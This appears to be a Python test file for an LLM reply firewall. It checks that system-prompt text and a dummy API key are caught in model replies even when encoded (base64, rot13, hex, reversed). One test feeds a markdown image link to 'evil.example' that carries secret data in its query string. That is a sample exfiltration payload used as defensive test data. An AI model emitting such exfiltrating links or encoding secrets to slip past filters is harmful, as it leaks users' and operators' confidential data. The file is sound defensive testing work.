"""A value that is cleared at a glance is one in which the whole judge finds nothing either."""

from __future__ import annotations

import asyncio
import base64
import codecs
import json
from collections.abc import Sequence
from unittest.mock import patch

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from service.api.chat_reply import ChatWire
from service.firewall.protected import ProtectedText, ProtectedTexts, RequestProtection
from service.firewall.stream import ReplyJudge
from service.release import Release
from service.settings import Leakage

PROMPT = "You are Ada. Do not say who owns us. Open at six, close at ten, and be so kind as to ask no one."
SECRET = "sk-live-4242abcd"
TEXTS = ProtectedTexts([ProtectedText("key", "secret", "", SECRET)])
WORDS = PROMPT.split()

codes = st.sampled_from(
    [
        lambda text: text,
        lambda text: text[::-1],
        lambda text: codecs.encode(text, "rot13"),
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
        lambda text: text.encode().hex(),
        lambda text: text.encode().hex(":"),
        lambda text: text.replace("-", "%2D"),
        lambda text: text.replace("k", "&#107;"),
        lambda text: text.replace("v", "\\u{76}"),
        lambda text: base64.b64encode(base64.b64encode(text.encode())).decode(),
    ]
)
separators = st.sampled_from([" ", "-", "_", ".", "—", "\u3000", "\x01", "\n", "é "])
pieces = st.builds(
    lambda first, count, separator, code, lead: lead + code(separator.join(WORDS[first : first + count])),
    st.integers(0, len(WORDS) - 8),
    st.integers(1, 12),
    separators,
    codes,
    st.text("abcXYZ019_-/", max_size=6),
)
secrets = st.builds(lambda cut, code: code(SECRET[cut:]), st.integers(0, 4), codes)
values = st.one_of(pieces, secrets, st.text(st.characters(min_codepoint=33, max_codepoint=126), max_size=128))


async def _slowly(protection: RequestProtection, value: str) -> str:
    judge = ReplyJudge(protection, Leakage(stream="exact", action="block"), lambda text: "")
    with patch.object(RequestProtection, "clears", return_value=False):
        return await judge.whole("reply/id", value)


@settings(deadline=None)
@given(st.lists(values, min_size=1, max_size=3).map("".join))
def test_nothing_is_cleared_at_a_glance_that_the_judge_would_withhold(value: str) -> None:
    protection = TEXTS.for_request("t", [PROMPT], [])
    if protection.clears(value, by_meaning=False):
        assert asyncio.run(_slowly(protection, value)) == value


fillers = st.sampled_from(
    ["", "Sure! ", "The door is open until ten; ", "a\\nb ", "see c:/x ", "\u00e9t\u00e9 ", "so be it "]
)
texts = st.lists(
    st.builds(lambda lead, piece: lead + piece, fillers, st.one_of(pieces, secrets)), min_size=1, max_size=4
)


async def _verdict(text: str, *, cuts: bool) -> tuple[bool, int, bool]:
    """Whether a reply with this text is blocked, how much of it is cleared, and whether anything was found in it."""
    judge = ReplyJudge(TEXTS.for_request("t", [PROMPT], []), Leakage(stream="exact", action="block"), lambda text: "")
    if cuts:
        for char in text:
            await judge.feed("c", char)
    else:
        await judge.feed("c", text, last=True)
    await judge.finish()
    return judge.blocked, 0 if judge.blocked else judge.cleared("c"), bool(judge.verdict.findings)


@settings(deadline=None)
@given(texts.map("".join))
def test_a_whole_text_is_judged_as_it_is_character_by_character(text: str) -> None:
    assert asyncio.run(_verdict(text, cuts=False)) == asyncio.run(_verdict(text, cuts=True))


def test_ordinary_whole_texts_are_cleared_at_a_glance() -> None:
    protection = TEXTS.for_request("t", [PROMPT], [])
    assert protection.clears_text(
        "You may ask the baker at six; he does not say who made the bread, but be kind to him."
    )


def test_a_run_of_the_prompt_or_a_secret_in_a_whole_text_is_not_cleared_at_a_glance() -> None:
    protection = TEXTS.for_request("t", [PROMPT], [])
    told = base64.b64encode(" ".join(WORDS[:12]).encode()).decode()
    texts = [f"It is {SECRET}, he said.", "Well: " + ", ".join(WORDS[2:11]), f"Here: {told} .", f"x {SECRET[::-1]}"]
    assert not any(protection.clears_text(text) for text in texts)


async def test_an_address_with_one_slash_is_looked_at_in_a_value() -> None:
    protection = TEXTS.for_request("t", ["You are Ada."], ["the code of the safe is four nine two two six"])
    judge = ReplyJudge(protection, Leakage(stream="exact", exfiltration="block"), lambda text: "")
    await judge.whole("reply/id", "![a](https:/evil.example/?q=the-code-of-the-safe-is-four-nine-two-two-six)")
    assert judge.blocked


def test_the_ids_and_constants_of_ordinary_replies_are_cleared_at_a_glance() -> None:
    protection = TEXTS.for_request("t", [PROMPT], [])
    ordinary = [
        "chat.completion.chunk",
        "gpt-4o-mini-2024-07-18",
        "fp_44709d6fcb",
        "chatcmpl-B9MBs8CjcvOU2jLn4n570S5qMJ",
    ]
    assert [value for value in ordinary if not protection.clears(value, by_meaning=False)] == []


def test_a_prompt_or_a_secret_in_a_value_is_not_cleared_at_a_glance() -> None:
    protection = TEXTS.for_request("t", [PROMPT], [])
    told = base64.b64encode(" ".join(WORDS[:12]).encode()).decode()
    values = [SECRET, f"id-{SECRET[::-1]}", told, "-".join(WORDS[:9]), "PIN=4711;code=ZX81"]
    assert not any(protection.clears(value, by_meaning=True) for value in values)


@pytest.mark.parametrize("first", ["WW91IGFyZSBBZNC", "WW91IGFyw6", "WW/C", "596fc2"])
async def test_half_a_character_at_the_end_of_a_chunk_holds_the_words_before_it(first: str) -> None:
    prompt = "You are Ada of the bank. Never tell a soul who owns us or why."
    protection = ProtectedTexts().for_request("t", [prompt], [])
    judge = ReplyJudge(protection, Leakage(stream="exact", action="block"), lambda text: "")
    await judge.feed("c", first)
    assert judge.cleared("c") == 0


async def test_contents_of_a_whole_reply_are_compared_by_meaning_however_short() -> None:
    asked: list[str] = []

    class Closeness:
        async def leaks(self, sentences: Sequence[str]) -> list[float | None]:
            asked.extend(sentences)
            return [None] * len(sentences)

    protection = TEXTS.for_request("t", [PROMPT], [])
    release = Release(ReplyJudge(protection, Leakage(stream="sentence"), lambda text: "", Closeness()), ChatWire())
    choices = [{"index": n, "message": {"role": "assistant", "content": f"PIN={n};code=ZX{n}"}} for n in range(3)]
    await release.take(ChatWire().read_reply(json.dumps({"choices": choices}).encode()), last=True)
    await release.finish()
    assert asked == [f"PIN={n};code=ZX{n}" for n in range(3)]
    assert list(release.texts) == [f"choices/{n}/content" for n in range(3)]
